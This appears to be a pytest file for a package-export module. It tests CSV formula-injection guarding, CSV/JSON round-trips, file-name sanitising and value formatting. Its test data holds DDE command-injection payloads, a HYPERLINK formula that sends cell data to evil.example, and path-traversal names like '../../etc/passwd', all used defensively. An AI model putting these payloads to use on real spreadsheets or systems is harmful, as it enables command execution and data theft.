"""The files of a package as programs and spreadsheets read them."""

import csv
import io
import json

import pytest

from dsr.packages.formats import as_csv, as_json, guarded
from dsr.packages.names import Names, safe_name
from dsr.packages.pages import readable

pytestmark = pytest.mark.any_database

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_run_as_a_formula(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("value", [-5, 12.5, "-12.50", "4440.00", "Rita", "a=b", "2026-11-22", "株式会社さくら", True])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert guarded(value) == value


def test_csv_can_be_read_back_with_quotes_line_ends_and_kanji_in_it() -> None:
    rows = [{"id": 1, "body": 'She said "no",\nthen left'}, {"id": 2, "body": None}, {"id": 3, "body": ["早見"]}]
    text = b"".join(as_csv(["id", "body"], iter(rows))).decode("utf-8")
    assert text.startswith("\ufeff")
    assert text.count("\r\n") == 4
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert read == [["id", "body"], ["1", 'She said "no",\nthen left'], ["2", ""], ["3", '["早見"]']]


@pytest.mark.parametrize("rows", [[], [{"id": 1, "body": "=1+1"}], [{"id": 1, "body": "a"}, {"id": 2, "body": None}]])
def test_json_holds_the_exact_data(rows: list[dict[str, object]]) -> None:
    assert json.loads(b"".join(as_json(["id", "body"], iter(rows)))) == rows


@pytest.mark.parametrize(
    ("hostile", "safe"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("C:\\Windows\\system32", "C-Windows-system32"),
        ("/absolute", "absolute"),
        ("..", "data"),
        ("", "data"),
        ("con", "con-"),
        ("LPT1", "LPT1-"),
        ('a"b<c>', "a-b-c"),
        ("名前", "名前"),
        ("x" * 300, "x" * 60),
        ("ends with dot.", "ends-with-dot"),
        ("nul\0byte\nline", "nul-byte-line"),
    ],
)
def test_a_name_from_a_foreign_system_is_one_plain_path_component(hostile: str, safe: str) -> None:
    assert safe_name(hostile) == safe


def test_two_names_that_differ_in_case_or_in_what_was_replaced_stay_apart() -> None:
    names = Names()
    taken = [names.take(text) for text in ("Users", "users", "user/s", "user:s", "users-2")]
    assert taken == ["Users", "users-2", "user-s", "user-s-2", "users-2-2"]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (False, "No"),
        (0, "0"),
        ("2018-03-12T09:00:00", "2018-03-12 09:00:00"),
        ("2018-03-12T09:00:00.123+09:00", "2018-03-12 09:00:00 +09:00"),
        ("2018-03-12T", "2018-03-12T"),
        ({"a": 1}, '{"a": 1}'),
    ],
)
def test_values_read_well(value: object, text: str) -> None:
    assert readable(value) == text
